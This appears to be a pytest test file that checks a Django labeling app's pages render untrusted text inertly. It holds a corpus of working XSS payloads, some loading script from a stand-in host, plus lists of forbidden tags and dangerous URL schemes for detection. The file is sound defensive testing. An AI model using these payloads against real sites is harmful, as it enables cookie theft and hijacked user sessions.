"""XSS corpus: untrusted text in every field an import or an admin controls renders inert.

Each payload goes into an item's prompt and conversation (content and role), the SFT draft, both
pairwise responses, the metadata, and a guideline's body and changelog. The pages that show them
are rendered through the test client and parsed with the stdlib's html.parser; the checks are:

- no live markup: no script but the two static ones (src + the response's CSP nonce), no `on*`
  or `style` attribute, no URL attribute with a javascript:/data:/vbscript: scheme, none of the
  tags that load or run things (img, svg, iframe, object, embed, style, ...);
- no behaviour smuggled in: the multiset of hx-*/data-* attributes, ids and active tags (form,
  input, script, link, meta, ...) equals that of the same page rendered with harmless text, so a
  payload can neither add an htmx request nor a `data-key` that app.js would click;
- the payload is visible as text: textareas and hidden inputs hold it verbatim, markdown spots hold
  exactly the text of `render_markdown(payload)`, which itself shows the payload's `<` as text.

Metadata is not shown on any of these pages today; it is filled so that a template that starts
showing it is covered by the same checks.
"""

from __future__ import annotations

import re
from collections import Counter
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.urls import reverse

from labeling.models import Membership, Project
from labeling.rendering import MARKDOWN_LIMIT, render_markdown
from labeling.services import guidelines
from tests.factories import (
    ItemFactory,
    MembershipFactory,
    PairwiseProjectFactory,
    ProjectFactory,
    ResponseFactory,
)

# (id, payload, text that must be visible in render_markdown(payload)'s text content)
CORPUS = [
    ("script", "<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("script-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<SCRIPT SRC=//evil.example"),
    ("script-block", "<script>\nalert(document.cookie)\n</script>", "alert(document.cookie)"),
    ("img-onerror", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>", "<svg><script>alert(1)"),
    ("body-onload", "<body onload=alert(1)>", "<body onload=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>', '<div onmouseover="alert(1)">'),
    ("details-ontoggle", "<details open ontoggle=alert(1)>", "<details open ontoggle"),
    ("md-link-javascript", "[click](javascript:alert(1))", "[click](javascript:alert(1))"),
    ("md-link-mixed-case", "[click](JaVaScRiPt:alert(1))", "[click](JaVaScRiPt:alert(1))"),
    (
        "md-link-data",
        "[c](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[c](data:",
    ),
    ("md-link-vbscript", "[click](vbscript:msgbox(1))", "[click](vbscript:msgbox(1))"),
    ("md-link-entity", "[click](&#106;avascript:alert(1))", "[click](javascript:alert(1))"),
    ("md-link-tab", "[click](jav&#x09;ascript:alert(1))", "[click](jav\tascript:alert(1))"),
    ("md-link-control-char", "[click](\x01javascript:alert(1))", "javascript:alert(1)"),
    ("md-link-reference", "[click][r]\n\n[r]: javascript:alert(1)", "[click][r]"),
    ("md-link-title-breakout", '[ok](https://ok.example "a\\" onmouseover=\\"alert(1)")', "ok"),
    ("autolink-javascript", "<javascript:alert(1)>", "<javascript:alert(1)>"),
    ("autolink-data", "<data:text/html,<script>alert(1)</script>>", "<script>alert(1)</script>"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>", "<vbscript:msgbox(1)>"),
    ("md-image", "before ![x](http://evil.example/x.png) after", "before"),
    ("md-image-javascript", "![x](javascript:alert(1))", "![x](javascript:alert(1))"),
    ("iframe", '<iframe src="https://evil.example"></iframe>', "<iframe src="),
    ("style", "<style>body{display:none}</style>", "<style>body{display:none}</style>"),
    ("object-embed", '<object data="javascript:alert(1)"></object><embed src=x>', "<object"),
    ("a-href-entity", '<a href="&#106;avascript:alert(1)">x</a>', '<a href="javascript:alert(1)">'),
    ("a-href-hex-entity", "<a href=&#x6A;avascript&#x3A;alert(1)>x</a>", "<a href=javascript:"),
    ("hx-get-load", '<div hx-get="/admin/" hx-trigger="load">x</div>', '<div hx-get="/admin/"'),
    ("hx-post-logout", '<button hx-post="/logout/" hx-trigger="load">x</button>', "hx-post"),
    ("data-hx-get", '<p data-hx-get="/admin/" data-hx-trigger="load">x</p>', "data-hx-get"),
    ("data-key-resubmit", '<button data-key="Enter" data-resubmit>x</button>', "data-resubmit"),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit></form>', "<form "),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>', "formaction"),
    ("django-variable", "{{ request.user.password }} {{ csrf_token }}", "{{ request.user.password"),
    ("django-tag", "{% debug %}{% load static %}{% csrf_token %}", "{% debug %}"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>", "</textarea><script>"),
    ("title-breakout", "</title><script>alert(1)</script>", "</title><script>"),
    ("attribute-double-quote", '" onmouseover="alert(1)" x="', '" onmouseover="alert(1)" x="'),
    ("attribute-single-quote", "' onfocus='alert(1)' autofocus='", "' onfocus='alert(1)'"),
    ("attribute-json-breakout", '\'}" hx-get="/admin/" x=\'{', 'hx-get="/admin/"'),
    ("base-meta-link", '<base href="//evil.example/"><meta http-equiv="refresh">', "<base href"),
    ("mxss-math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math>"),
    ("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<noscr"),
    ("template", "<template><script>alert(1)</script></template>", "<template>"),
    ("comment-cdata", "<!-- --><script>alert(1)</script><![CDATA[x]]>", "<!-- -->"),
    (
        "unicode-fullwidth",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    ),
    ("unicode-zero-width", "<scr\u200bipt>alert(1)</scr\u200bipt>", "<scr\u200bipt>"),
    ("unicode-rtl-override", "\u202e<a href=javascript:alert(1)>gnp.exe</a>", "gnp.exe"),
    ("unicode-zero-width-scheme", "[x](java\u200bscript:alert(1))", "[x](java"),
    ("inline-code-html", "`<img src=x onerror=alert(1)>`", "<img src=x onerror=alert(1)>"),
    ("fenced-code-html", "```html\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"),
]
PAYLOADS = [pytest.param(payload, visible, id=name) for name, payload, visible in CORPUS]

HARMLESS = "Hello **world**, see [the docs](https://example.org/docs).\n\n- one\n- two"

FORBIDDEN_TAGS = {
    "img",
    "svg",
    "math",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "style",
    "base",
    "template",
    "noscript",
    "audio",
    "video",
    "source",
    "picture",
}
# Tags whose number must not change with the content: they load, submit or configure things.
ACTIVE_TAGS = {"script", "link", "meta", "form", "input", "button", "textarea", "select", "details"}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "ping",
    "srcset",
    "cite",
}
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
VOID_TAGS = {
    "area",
    "base",
    "br",
    "col",
    "embed",
    "hr",
    "img",
    "input",
    "link",
    "meta",
    "source",
    "track",
    "wbr",
}
STATIC_SCRIPTS = ["/static/django_htmx/htmx-2.min.js", "/static/js/app.js"]


# --- a small DOM over html.parser -------------------------------------------------------------


@dataclass
class Node:
    tag: str
    attrs: dict[str, str | None]
    children: list[Node | str] = field(default_factory=list)

    def text(self) -> str:
        return "".join(c if isinstance(c, str) else c.text() for c in self.children)

    def walk(self):
        for child in self.children:
            if isinstance(child, Node):
                yield child
                yield from child.walk()

    def classes(self) -> list[str]:
        return (self.attrs.get("class") or "").split()


class _TreeBuilder(HTMLParser):
    """Every element, attribute and text run, with entities decoded as a browser would."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#root", {})
        self.stack = [self.root]

    def handle_starttag(self, tag, attrs):
        node = Node(tag, {})
        for name, value in attrs:
            node.attrs.setdefault(name, value)  # the first of duplicate attributes wins
        self.stack[-1].children.append(node)
        if tag not in VOID_TAGS:
            self.stack.append(node)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag not in VOID_TAGS:
            self.stack.pop()

    def handle_endtag(self, tag):
        for depth in range(len(self.stack) - 1, 0, -1):
            if self.stack[depth].tag == tag:
                del self.stack[depth:]
                return

    def handle_data(self, data):
        self.stack[-1].children.append(data)


def parse(html: str) -> Node:
    builder = _TreeBuilder()
    builder.feed(html)
    builder.close()
    return builder.root


def select(root: Node, tag: str, **attrs: str) -> list[Node]:
    """Elements by tag and exact attribute values; `class_` matches one class token."""
    wanted_class = attrs.pop("class_", None)
    return [
        node
        for node in root.walk()
        if node.tag == tag
        and all(node.attrs.get(k) == v for k, v in attrs.items())
        and (wanted_class is None or wanted_class in node.classes())
    ]


# --- the checks -------------------------------------------------------------------------------


def _url_scheme_is_dangerous(value: str) -> bool:
    # Browsers drop tabs and newlines anywhere in a URL and C0 controls/spaces around it.
    url = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(0x21)))).lower()
    return url.startswith(DANGEROUS_SCHEMES)


def live_markup(root: Node, *, nonce: str | None) -> list[str]:
    """Everything in the tree that could run code or load something; [] when inert.

    `nonce` None means a fragment, which may hold no script at all.
    """
    problems = []
    scripts = []
    for node in root.walk():
        if node.tag in FORBIDDEN_TAGS:
            problems.append(f"<{node.tag}> element")
        if node.tag == "script":
            scripts.append((node.attrs.get("src"), node.attrs.get("nonce"), node.text()))
        for name, value in node.attrs.items():
            if name.startswith("on") or name in ("style", "srcdoc"):
                problems.append(f"{name} attribute on <{node.tag}>")
            if name in URL_ATTRIBUTES and value and _url_scheme_is_dangerous(value):
                problems.append(f"{name}={value!r} on <{node.tag}>")
    expected_scripts = [] if nonce is None else [(src, nonce, "") for src in STATIC_SCRIPTS]
    if scripts != expected_scripts:
        problems.append(f"scripts {scripts!r}")
    return problems


def behaviour_signature(root: Node) -> Counter:
    """What the page does, independent of the text it shows: htmx/data attributes, ids, forms."""
    signature: Counter = Counter()
    for node in root.walk():
        if node.tag in ACTIVE_TAGS:
            signature[(node.tag,)] += 1
        for name, value in node.attrs.items():
            if name.startswith(("hx-", "data-")) or name == "autofocus":
                signature[(node.tag, name)] += 1
            if name == "id":
                signature[(node.tag, "id", value)] += 1
    return signature


def response_nonce(response) -> str:
    match = re.search(r"'nonce-([^']+)'", response["Content-Security-Policy"])
    assert match, response["Content-Security-Policy"]
    return match.group(1)


def markdown_text(text: str) -> str:
    return parse(render_markdown(text)).text()


# --- unit tests of render_markdown ------------------------------------------------------------


@pytest.mark.parametrize(("payload", "visible"), PAYLOADS)
def test_render_markdown_leaves_no_live_markup(payload, visible):
    html = render_markdown(payload)
    root = parse(html)
    assert live_markup(root, nonce=None) == []
    assert behaviour_signature(root) == Counter()
    assert {node.tag for node in root.walk()} <= {"p", "pre", "code", "a", "br", "strong", "em"}


@pytest.mark.parametrize(("payload", "visible"), PAYLOADS)
def test_render_markdown_shows_the_payload_as_text(payload, visible):
    html = render_markdown(payload)
    assert visible in parse(html).text()
    if "<" in visible:
        assert "&lt;" in html


@pytest.mark.parametrize(("payload", "visible"), PAYLOADS)
def test_render_markdown_links_only_to_http_https_and_mailto(payload, visible):
    hrefs = [node.attrs["href"] for node in select(parse(render_markdown(payload)), "a")]
    assert all(href.startswith(("https://", "http://", "mailto:")) for href in hrefs), hrefs


def test_markdown_over_the_limit_is_escaped_plain_text():
    payload = "<script>alert(1)</script> **bold** [x](javascript:alert(1))\n"
    text = payload * (MARKDOWN_LIMIT // len(payload) + 1)
    assert len(text) > MARKDOWN_LIMIT
    html = render_markdown(text)
    line = "&lt;script&gt;alert(1)&lt;/script&gt; **bold** [x](javascript:alert(1))\n"
    assert html == '<pre class="plain">' + line * (MARKDOWN_LIMIT // len(payload) + 1) + "</pre>"
    assert live_markup(parse(html), nonce=None) == []


def test_markdown_at_the_limit_is_still_markdown():
    text = "**bold**" + "x" * (MARKDOWN_LIMIT - len("**bold**"))
    assert render_markdown(text) == f"<p><strong>bold</strong>{'x' * (MARKDOWN_LIMIT - 8)}</p>\n"


# The checker itself must see live markup, or every test above passes vacuously.
@pytest.mark.parametrize(
    ("html", "problems"),
    [
        ("<img src=x onerror=alert(1)>", ["<img> element", "onerror attribute on <img>"]),
        ("<a href=' Java&#x09;Script:x'>x</a>", ["href=' Java\\tScript:x' on <a>"]),
        ("<form action='data:text/html,x'></form>", ["action='data:text/html,x' on <form>"]),
        ("<p style='x'>x</p>", ["style attribute on <p>"]),
        ("<script>alert(1)</script>", ["scripts [(None, None, 'alert(1)')]"]),
    ],
)
def test_the_checker_reports_live_markup(html, problems):
    assert live_markup(parse(html), nonce=None) == problems


def test_the_signature_counts_htmx_attributes_and_active_tags():
    root = parse('<div hx-get="/x" hx-trigger="load" id="w"><form><input></form></div>')
    assert behaviour_signature(root) == Counter(
        {
            ("div", "hx-get"): 1,
            ("div", "hx-trigger"): 1,
            ("div", "id", "w"): 1,
            ("form",): 1,
            ("input",): 1,
        }
    )


# --- pages ------------------------------------------------------------------------------------

HTMX = {"HTTP_HX_REQUEST": "true"}


def _conversation(text: str) -> list[dict[str, str]]:
    return [
        {"role": "system", "content": text},
        {"role": "user", "content": text},
        {"role": text, "content": "The role above carries the payload."},
    ]


def _world(text: str, *, annotator, admin) -> dict[str, Project]:
    """An SFT and a pairwise project, each with one item and a guideline version, all `text`."""
    sft = ProjectFactory()
    pairwise = PairwiseProjectFactory(overlap=1)
    for project in (sft, pairwise):
        MembershipFactory(project=project, user=annotator)
        MembershipFactory(project=project, user=admin, role="admin")
        guidelines.publish(project=project, author=admin, body=text, changelog=text)
        ItemFactory(
            project=project,
            prompt=text,
            messages=_conversation(text),
            draft_response=text if project is sft else "",
            metadata={"source": text, text: [text]},
        )
    for position in (0, 1):
        ResponseFactory(item=pairwise.items.get(), position=position, text=text)
    return {"sft": sft, "pairwise": pairwise}


def _render_pages(world, *, annotator, admin) -> dict[str, tuple[Node, str | None]]:
    """Page name -> (parsed HTML, CSP nonce or None for a fragment)."""
    member, editor = Client(), Client()
    member.force_login(annotator)
    editor.force_login(admin)
    sft, pairwise = world["sft"].slug, world["pairwise"].slug

    def get(client, name, slug, **extra):
        return client.get(reverse(f"labeling:{name}", kwargs={"slug": slug}), **extra)

    responses = {
        # The annotator has not read the guidelines yet: the gate shows them with a diff.
        "acknowledge": get(member, "queue", sft),
        "acknowledge-partial": get(member, "queue", pairwise, **HTMX),
    }
    for membership in Membership.objects.filter(user=annotator, project__in=world.values()):
        guidelines.acknowledge(membership=membership, version=membership.project.current_guideline)
    responses |= {
        "sft-queue": get(member, "queue", sft),
        "pairwise-queue": get(member, "queue", pairwise),
        "pairwise-queue-partial": get(member, "queue", pairwise, **HTMX),
        "guidelines": get(member, "guidelines", sft),
        "guidelines-edit": get(editor, "guidelines-edit", sft),
        "guidelines-preview": editor.post(
            reverse("labeling:guidelines-preview", kwargs={"slug": sft}),
            {"body": world["sft"].current_guideline.body},
        ),
    }
    pages = {}
    for name, response in responses.items():
        assert response.status_code == 200, name
        fragment = name.endswith(("-partial", "-preview"))
        pages[name] = (
            parse(response.content.decode()),
            None if fragment else response_nonce(response),
        )
    return pages


@pytest.fixture(scope="module")
def rendered_pages() -> dict[str, dict[str, tuple[Node, str | None]]]:
    """Parsed pages by text, shared by the page tests of this module.

    Rendering one world takes ~0.15 s; three tests over 50 payloads plus a baseline would
    render it 200 times. The parsed trees are plain data, so keeping them is safe.
    """
    return {}


@pytest.fixture
def render_world(annotator, queue_admin, rendered_pages):
    def render(text: str):
        if text not in rendered_pages:
            world = _world(text, annotator=annotator, admin=queue_admin)
            rendered_pages[text] = _render_pages(world, annotator=annotator, admin=queue_admin)
        return rendered_pages[text]

    return render


@pytest.mark.django_db
@pytest.mark.parametrize(("payload", "visible"), PAYLOADS)
def test_pages_hold_no_live_markup(render_world, payload, visible):
    pages = render_world(payload)
    problems = {name: live_markup(root, nonce=nonce) for name, (root, nonce) in pages.items()}
    assert problems == {name: [] for name in pages}


@pytest.mark.django_db
@pytest.mark.parametrize(("payload", "visible"), PAYLOADS)
def test_pages_keep_only_the_templates_own_htmx_and_data_attributes(render_world, payload, visible):
    baseline = {
        name: behaviour_signature(root) for name, (root, _) in render_world(HARMLESS).items()
    }
    pages = {name: behaviour_signature(root) for name, (root, _) in render_world(payload).items()}
    assert pages == baseline


@pytest.mark.django_db
def test_harmless_pages_carry_the_expected_htmx_attributes(render_world):
    pages = {name: behaviour_signature(root) for name, (root, _) in render_world(HARMLESS).items()}
    # The comparison above is only meaningful if the baseline has the templates' attributes.
    assert pages["sft-queue"][("form", "hx-post")] == 2
    assert pages["sft-queue"][("textarea", "hx-post")] == 1
    assert pages["sft-queue"][("div", "hx-trigger")] == 1
    assert pages["pairwise-queue"][("input", "data-key")] == 7
    assert pages["acknowledge"][("button", "data-key")] == 1
    assert pages["acknowledge-partial"][("div", "hx-swap-oob")] == 2
    assert pages["guidelines-edit"][("textarea", "hx-trigger")] == 1
    assert pages["guidelines-preview"] == Counter()


@pytest.mark.django_db
@pytest.mark.parametrize(("payload", "visible"), PAYLOADS)
def test_pages_show_the_payload_as_text(render_world, payload, visible):
    pages = {name: root for name, (root, _) in render_world(payload).items()}
    rendered = markdown_text(payload)
    assert visible in rendered
    sft, pairwise = pages["sft-queue"], pages["pairwise-queue"]
    for root in (sft, pairwise):
        messages = select(root, "div", class_="message")
        assert [select(m, "div", class_="prose")[0].text() for m in messages] == [
            rendered,
            rendered,
            markdown_text("The role above carries the payload."),
        ]
        assert select(messages[2], "div", class_="role")[0].text() == payload
        assert messages[2].attrs["class"] == f"message role-{payload}"
        assert select(root, "div", id="guidelines-body")[0].text() == rendered
    assert select(sft, "textarea", id="response")[0].text() == payload
    assert select(sft, "input", name="draft")[0].attrs["value"] == payload
    responses = select(pairwise, "section", class_="response")
    assert [select(r, "div", class_="prose")[0].text() for r in responses] == [rendered] * 2
    diff = select(pages["acknowledge"], "pre", class_="diff")[0]
    inserted = [span.text() for span in select(diff, "span", class_="diff-insert")]
    assert inserted == [f"+ {line}" for line in payload.splitlines()]
    changelog = select(pages["acknowledge"], "div", id="acknowledge")[0].children[3]
    assert (changelog.tag, changelog.text()) == ("p", payload.strip())
    assert select(pages["guidelines-edit"], "textarea", id="id_body")[0].text() == payload
    assert pages["guidelines-preview"].text() == rendered
    assert rendered in select(pages["guidelines"], "article", class_="prose")[0].text()
